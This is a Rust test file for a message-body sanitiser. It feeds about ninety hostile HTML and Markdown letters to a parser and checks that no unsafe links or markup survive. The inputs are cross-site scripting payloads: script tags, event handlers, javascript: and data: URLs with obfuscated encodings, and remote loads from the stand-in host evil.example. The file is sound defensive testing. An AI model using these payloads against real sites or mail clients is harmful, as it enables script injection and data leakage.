//! Letters that try to run something, load something or lead somewhere unseen. Each is read; none leaves a link outside
//! the four schemes, and no text that only a browser may see.

use super::{hrefs, is_allowed};
use crate::body::{parse, plain_text};

/// A body, and whether a link of it may remain.
const LETTERS: &[(&str, bool)] = &[
    ("<script>SECRET</script>", false),
    (
        "<SCRIPT SRC=https://evil.example/x.js>SECRET</SCRIPT>",
        false,
    ),
    ("<script\n>SECRET</script\n>", false),
    ("<script/x>SECRET</script>", false),
    ("Hei <script>SECRET</script> du", false),
    ("<scr<script>ipt>SECRET</script>", false),
    ("<script><!--<script>SECRET</script>--></script>", false),
    ("<svg><script>SECRET</script></svg>", false),
    ("<svg onload=alert(1)>SECRET</svg>", false),
    (
        "<svg><a xlink:href='javascript:alert(1)'><text>SECRET</text></a></svg>",
        false,
    ),
    (
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        false,
    ),
    (
        "<math><mtext><mglyph><style><img src onerror=alert(1)></style></mglyph></mtext></math>",
        false,
    ),
    ("<math href='javascript:alert(1)'>SECRET</math>", false),
    (
        "<style>SECRET{background:url(javascript:alert(1))}</style>",
        false,
    ),
    (
        "<style>@import 'https://evil.example/SECRET.css';</style>",
        false,
    ),
    (
        "<link rel=stylesheet href=https://evil.example/SECRET.css>",
        false,
    ),
    (
        "<base href='javascript:/SECRET/'><a href='x'>her</a>",
        false,
    ),
    (
        "<meta http-equiv=refresh content='0;url=javascript:SECRET'>",
        false,
    ),
    ("<img src=x onerror='SECRET'>", false),
    ("<img src='https://evil.example/SECRET.png'>", false),
    ("<img srcset='https://evil.example/SECRET.png 2x'>", false),
    ("![](https://evil.example/SECRET.png)", false),
    (
        "<picture><source srcset=https://evil.example/SECRET.png></picture>",
        false,
    ),
    (
        "<video poster=https://evil.example/SECRET.png><source src=x onerror=SECRET></video>",
        false,
    ),
    (
        "<audio src=https://evil.example/SECRET.mp3 autoplay></audio>",
        false,
    ),
    ("<iframe src='javascript:SECRET'></iframe>", false),
    ("<iframe srcdoc='<script>SECRET</script>'></iframe>", false),
    (
        "<object data='data:text/html,SECRET'>SECRET</object>",
        false,
    ),
    ("<embed src='data:text/html,SECRET'>", false),
    ("<applet code=SECRET>SECRET</applet>", false),
    (
        "<form action='javascript:SECRET'><button formaction='javascript:SECRET'>Send</button></form>",
        false,
    ),
    ("<input onfocus=SECRET autofocus value=SECRET>", false),
    ("<select><option>SECRET</select>", false),
    ("<details open ontoggle=SECRET>Hei</details>", false),
    ("<body onload=SECRET>Hei</body>", false),
    (
        "<div style='background:url(https://evil.example/SECRET)'>Hei</div>",
        false,
    ),
    (
        "<div style='position:fixed;inset:0' onmouseover=SECRET>Hei</div>",
        false,
    ),
    ("<p id=SECRET class=SECRET>Hei</p>", false),
    ("<a href='javascript:SECRET'>her</a>", false),
    ("<a href='JaVaScRiPt:SECRET'>her</a>", false),
    ("<a href=' javascript:SECRET'>her</a>", false),
    ("<a href='\u{1}javascript:SECRET'>her</a>", false),
    ("<a href='java\tscript:SECRET'>her</a>", false),
    ("<a href='java\nscript:SECRET'>her</a>", false),
    ("<a href='javascript&colon;SECRET'>her</a>", false),
    ("<a href='&#106;&#97;vascript:SECRET'>her</a>", false),
    ("<a href='&#x6A;avascript&#58;SECRET'>her</a>", false),
    ("<a href='jav&#x09;ascript:SECRET'>her</a>", false),
    ("<a href='vbscript:SECRET'>her</a>", false),
    ("<a href='data:text/html;base64,SECRET'>her</a>", false),
    ("<a href='file:///etc/SECRET'>her</a>", false),
    ("<a href='tauri://localhost/SECRET'>her</a>", false),
    ("<a href='ipc://localhost/SECRET'>her</a>", false),
    ("<a href='blob:https://a.no/SECRET'>her</a>", false),
    ("<a href='view-source:https://a.no/SECRET'>her</a>", false),
    ("<a href='//evil.example/SECRET'>her</a>", false),
    ("<a href='/SECRET'>her</a>", false),
    ("<a href='#SECRET'>her</a>", false),
    ("<a href='https:\\\\evil.example\\SECRET'>her</a>", false),
    ("<a href='https:///SECRET'>her</a>", false),
    ("<a href='https://a.no/\u{202e}SECRET'>her</a>", false),
    ("<a href='https://a.no/\u{200b}SECRET'>her</a>", false),
    ("<a href='mailto:SECRET'>her</a>", false),
    ("<a href='tel:javascript:SECRET'>her</a>", false),
    (
        "<a href='https://a.no' href='javascript:SECRET' onclick=SECRET>her</a>",
        true,
    ),
    (
        "<a href='https://a.no' target=_top ping='https://evil.example/SECRET'>her</a>",
        true,
    ),
    (
        "<a href='https://a.no'><a href='javascript:SECRET'>her</a></a>",
        true,
    ),
    ("[her](javascript:SECRET)", false),
    ("[her](<java\tscript:SECRET>)", false),
    ("[her]( javascript:SECRET )", false),
    ("[her](JAVASCRIPT&#58;SECRET)", false),
    ("[her](data:text/html,SECRET)", false),
    ("[her][r]\n\n[r]: javascript:SECRET", false),
    ("<javascript:SECRET>", false),
    (
        "[![x](https://evil.example/SECRET.png)](javascript:SECRET)",
        false,
    ),
    ("<!-- SECRET -->", false),
    ("<!--> <a href='javascript:SECRET'>her</a> -->", false),
    ("<![CDATA[<script>SECRET</script>]]>", false),
    ("<?xml-stylesheet href='javascript:SECRET'?>", false),
    ("<noscript><img src=x onerror=SECRET></noscript>", false),
    ("<template><script>SECRET</script></template>", false),
    ("<title><img src=x onerror=SECRET></title>", false),
    ("<xss onpointerrawupdate=SECRET>Hei</xss>", false),
    (
        "<table background='https://evil.example/SECRET'><tr><td>Hei</table>",
        false,
    ),
    ("<marquee onstart=SECRET>Hei</marquee>", false),
    (
        "<isindex type=image src=https://evil.example/SECRET onerror=SECRET>",
        false,
    ),
    ("<bgsound src='javascript:SECRET'>", false),
    ("<frameset onload=SECRET></frameset>", false),
    ("<keygen autofocus onfocus=SECRET>", false),
    ("<img alt='x' src='`javascript:SECRET`'>", false),
    ("<div><script>SECRET</div></script>", false),
    ("<b <script>SECRET</script>", false),
];

#[test]
fn hostile_letters_do_nothing() {
    assert!(LETTERS.len() >= 60, "the corpus only grows");
    for (letter, may_link) in LETTERS {
        let blocks = parse(letter);
        let links = hrefs(&blocks);
        assert!(
            links.iter().all(|href| is_allowed(href)),
            "{letter:?} leads to {links:?}"
        );
        assert_eq!(
            !links.is_empty(),
            *may_link,
            "{letter:?} must keep exactly what a person may follow"
        );
        assert!(
            links.iter().all(|href| !href.contains("SECRET")),
            "{letter:?} hides an address: {links:?}"
        );
        let is_split_tag = letter.contains("<scr<") || letter.contains("<b <");
        let is_prose = letter.contains("CDATA") || letter.contains("](") || letter.contains("]:");
        assert!(
            is_split_tag || is_prose || !plain_text(&blocks).contains("SECRET"),
            "{letter:?} shows what is not text: {}",
            plain_text(&blocks)
        );
    }
}

#[test]
fn whatever_the_case_no_markup_survives_as_text_of_a_link_or_element() {
    for (letter, _) in LETTERS {
        let shown = format!("{:?}", parse(letter));
        for word in ["onerror", "onload", "onclick", "srcdoc", "xlink"] {
            assert!(!shown.contains(word), "{letter:?} keeps {word}: {shown}");
        }
    }
}
